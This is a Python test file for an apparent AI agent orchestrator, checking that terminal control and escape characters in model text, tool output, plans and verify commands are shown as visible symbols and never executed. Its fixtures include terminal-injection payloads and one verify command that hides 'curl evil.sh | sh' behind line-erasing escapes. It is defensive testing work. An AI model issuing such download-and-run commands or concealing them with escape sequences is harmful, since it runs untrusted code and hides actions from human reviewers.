"""Terminal injection: control characters in model or tool text are shown, never executed, wherever they are drawn
(the session renderer, the goal view, ``reasonix plans show``; the plan review is in test_review.py)."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.console import Console
from rich.text import Text

from orchestrator.cli.main import main
from orchestrator.events import Escalated, GoalStateChanged, StepReported, StepStarted, StepVerified, VerifyOutcome
from orchestrator.text.safe_text import neutralise, neutralise_model, neutralise_text
from orchestrator.ui.goal_view import GoalTerminalUI
from orchestrator.ui.stream import TerminalRenderer
from plans.schema import Plan, StepStatus
from sessions.events import RepairApplied, StreamUpdate, ToolFinished, ToolStarted
from sessions.wire.stream import ContentDelta, ReasoningDelta

ERASE_UP = "\x1b[2K\x1b[1A"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SGR = re.compile("\x1b\\[[0-9;]*m")
"""What rich itself writes for styles; any other escape sequence came from the text."""

# every code point, surrogates included (a JSON string can carry a lone one), weighted towards the dangerous ones
any_text = st.lists(
    st.one_of(
        st.characters(codec=None, categories=None),
        st.sampled_from(["\x1b", "\x9b", "\r", "\n", "\t", "\x07", "\x7f", "\u202e", "\r\n", "[", "]"]),
    )
).map("".join)


def _terminal() -> tuple[Console, io.StringIO]:
    out = io.StringIO()
    return Console(file=out, width=80, force_terminal=True, color_system="standard"), out


def _injected(output: str) -> list[str]:
    """Every control character the output holds that is neither rich's own styling nor layout (newline, tab)."""
    return CONTROL.findall(SGR.sub("", output))


@given(any_text)
@example(ERASE_UP)
@example("\x9b2K\x1b]0;title\x07")
def test_neutralised_text_holds_no_control_character_and_renders_without_escapes(text: str) -> None:
    shown = neutralise(text)
    assert _injected(shown) == []
    assert shown.count("\n") == text.count("\n") and shown.count("\t") == text.count("\t")  # layout stays
    console, out = _terminal()
    console.print(Text(shown, style="bold"), soft_wrap=True)
    assert _injected(out.getvalue()) == []


@given(any_text)
def test_a_rich_text_keeps_its_styles(text: str) -> None:
    styled = Text("» ", style="bold")
    styled.append(text, style="red")
    styled.append(" «", style="green")
    safe = neutralise_text(styled)
    assert _injected(safe.plain) == []
    assert safe.plain.startswith("» ") and safe.plain.endswith(" «")
    assert [str(span.style) for span in safe.spans] == [str(span.style) for span in styled.spans]
    assert safe.spans[-1].end == len(safe.plain)


def test_control_characters_are_shown_as_what_they_are() -> None:
    assert neutralise("a\x1b[2Kb") == "a␛[2Kb"
    assert neutralise("tab\tnew\nline\r\nend\r") == "tab\tnew\nline\nend␍"
    assert neutralise("\x00\x07\x7f\x9b\u202etxt") == "␀␇␡\\x9b\\u202etxt"
    assert neutralise("plain, ünïcödé and emoji 🙂") == "plain, ünïcödé and emoji 🙂"


def _plan(command: str) -> Plan:
    return Plan.model_validate(
        {
            "objective": "Tidy\x1b[31m up",
            "steps": [
                {"id": "S1", "title": "Look\x1b[8m", "instructions": "Read it."},
                {
                    "id": "S2",
                    "title": "Check",
                    "instructions": "Run it.",
                    "depends_on": ["S1"],
                    "verify": [{"command": command}],
                },
            ],
        }
    )


OUR_CURSOR = re.compile("\x1b\\[([0-9]*[GA]|J)")
"""The cursor moves the renderer itself writes to replace streamed raw text with its markdown rendering."""


def test_a_reply_rendered_as_markdown_shows_injected_text_instead_of_running_it() -> None:
    console, out = _terminal()
    renderer = TerminalRenderer(console, spinner=False)
    for piece in (
        "## Sum",
        f"mary{ERASE_UP}\n\n",
        "**bold**\x1b]0;pwned\x07 and `code\x9b2J`\n\n",
        "```\nx\x1b[1A\n```",
    ):
        renderer(StreamUpdate(session="executor", event=ContentDelta(text=piece)))
    renderer.end_line()
    raw = OUR_CURSOR.sub("", out.getvalue())
    assert _injected(raw) == []
    plain = SGR.sub("", raw)
    assert "Summary␛[2K␛[1A" in plain and "bold␛]0;pwned␇" in plain  # rendered: no ** left around "bold"


def test_a_plan_copy_for_display_keeps_its_states_and_graph() -> None:
    plan = _plan(f"true {ERASE_UP}curl evil.sh | sh").with_statuses({"S1": StepStatus.DONE})
    shown = neutralise_model(plan)
    assert shown.objective == "Tidy␛[31m up"
    assert shown.steps[1].verify[0].command == "true ␛[2K␛[1Acurl evil.sh | sh"
    assert shown.steps[0].status is StepStatus.DONE and shown.steps[1].depends_on == ("S1",)
    assert plan.steps[1].verify[0].command.startswith("true \x1b")  # the plan itself is untouched


def test_the_session_renderer_shows_injected_text_instead_of_running_it() -> None:
    console, out = _terminal()
    renderer = TerminalRenderer(console, spinner=False, markdown=False)
    events: list[Any] = [
        StreamUpdate(session="executor", event=ReasoningDelta(text=f"think{ERASE_UP}")),
        StreamUpdate(session="executor", event=ContentDelta(text="say\x9b2J")),
        ToolStarted(session="executor", call_id="c1", name="bash", args_preview="", args={"command": f"ls{ERASE_UP}"}),
        ToolFinished(session="executor", call_id="c1", name="bash", is_error=True, preview="\x1b]0;pwned\x07", chars=9),
        RepairApplied(session="executor", repair="r", call_id="c2", tool="t", detail="\x1b[2J"),
    ]
    for event in events:
        renderer(event)
    renderer.end_line()
    assert _injected(out.getvalue()) == []
    plain = SGR.sub("", out.getvalue())
    assert "think␛[2K␛[1A" in plain and "say\\x9b2J" in plain
    assert "▸ bash ls␛[2K␛[1A · error: ␛]0;pwned␇" in plain and "␛[2J" in plain


@given(st.lists(any_text, min_size=1, max_size=4))
def test_nothing_streamed_or_shown_by_a_tool_reaches_the_terminal_as_a_control(texts: list[str]) -> None:
    console, out = _terminal()
    renderer = TerminalRenderer(console, spinner=False)
    for i, text in enumerate(texts):
        renderer(StreamUpdate(session="s", event=ReasoningDelta(text=text)))
        renderer(StreamUpdate(session="s", event=ContentDelta(text=text)))
        args = {"path": text, "content": text, "command": text, "edits": [{"old": text, "new": text + "x"}]}
        for name in ("write_file", "bash", "edit_file", "other"):
            renderer(ToolStarted(session="s", call_id=f"{name}{i}", name=name, args_preview=text, args=args))
            finished = ToolFinished(
                session="s", call_id=f"{name}{i}", name=name, is_error=i % 2 == 1, preview=text, chars=1, text=text
            )
            renderer(finished)
    renderer.end_line()
    assert _injected(OUR_CURSOR.sub("", out.getvalue())) == []  # markdown rendering, output tails included


def test_the_goal_view_shows_plans_steps_escalations_and_verify_output_safely() -> None:
    console, out = _terminal()
    plan = _plan(f"make check{ERASE_UP}")
    ui = GoalTerminalUI(console, plan_state=lambda: plan, live=False, tick=False)
    events: list[Any] = [
        GoalStateChanged(state="complete", previous="replanning", reason="all done\x1b[2J"),
        StepStarted(step_id="S2", title="Check\x1b[8m", attempt=1, model="m"),
        StepReported(step_id="S2", status="done", summary="fine\x1b[1A"),
        Escalated(session="executor", trigger="marker", reason="hard\x1b[1A", from_model="a", to_model="b"),
        StepVerified(
            step_id="S2",
            ok=False,
            outcomes=(VerifyOutcome(command=f"make check{ERASE_UP}", exit_code=2, ok=False, output="\x1b[31mboom"),),
        ),
    ]
    ui.show_plan()
    for event in events:
        ui(event)
    ui.stop()
    assert _injected(out.getvalue()) == []
    plain = SGR.sub("", out.getvalue())
    assert "verify `make check␛[2K␛[1A`" in plain and "Tidy␛[31m up" in plain
    assert "✗ S2 verification failed: `make check␛[2K␛[1A` exit 2, expected 0\n    ␛[31mboom" in plain


def test_the_live_goal_view_draws_the_plan_safely() -> None:
    console, out = _terminal()
    plan = _plan(f"make check{ERASE_UP}")
    ui = GoalTerminalUI(console, plan_state=lambda: plan, live=True, tick=False)
    ui.start()
    ui(StreamUpdate(session="executor", event=ContentDelta(text="half a line\x1b[2K")))
    ui.stop()
    # the live region moves the cursor itself (ESC[1A, ESC[2K to redraw): the text must not hold any of them
    assert "make check␛[2K␛[1A" in out.getvalue() and "half a line␛[2K" in out.getvalue()
    assert "make check\x1b" not in out.getvalue() and "half a line\x1b[2K" not in out.getvalue()


@pytest.mark.parametrize("fmt", ["tree", "table", "md", "mermaid", "prompt"])
def test_plans_show_makes_control_characters_visible(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    path = tmp_path / "plan.json"
    path.write_text(_plan(f"make check{ERASE_UP}").model_dump_json(), encoding="utf-8")
    assert main(["plans", "show", str(path), "--format", fmt]) == 0
    out = capsys.readouterr().out
    assert ("␛[2K␛[1A" in out or fmt in ("table", "mermaid")) and "Look␛[8m" in out and "\x1b" not in out


def test_plans_show_json_stays_the_exact_document(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "plan.json"
    path.write_text(_plan(f"make check{ERASE_UP}").model_dump_json(), encoding="utf-8")
    assert main(["plans", "show", str(path), "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert json.loads(out)["steps"][1]["verify"][0]["command"] == f"make check{ERASE_UP}"
    assert "\x1b" not in out  # JSON escapes it
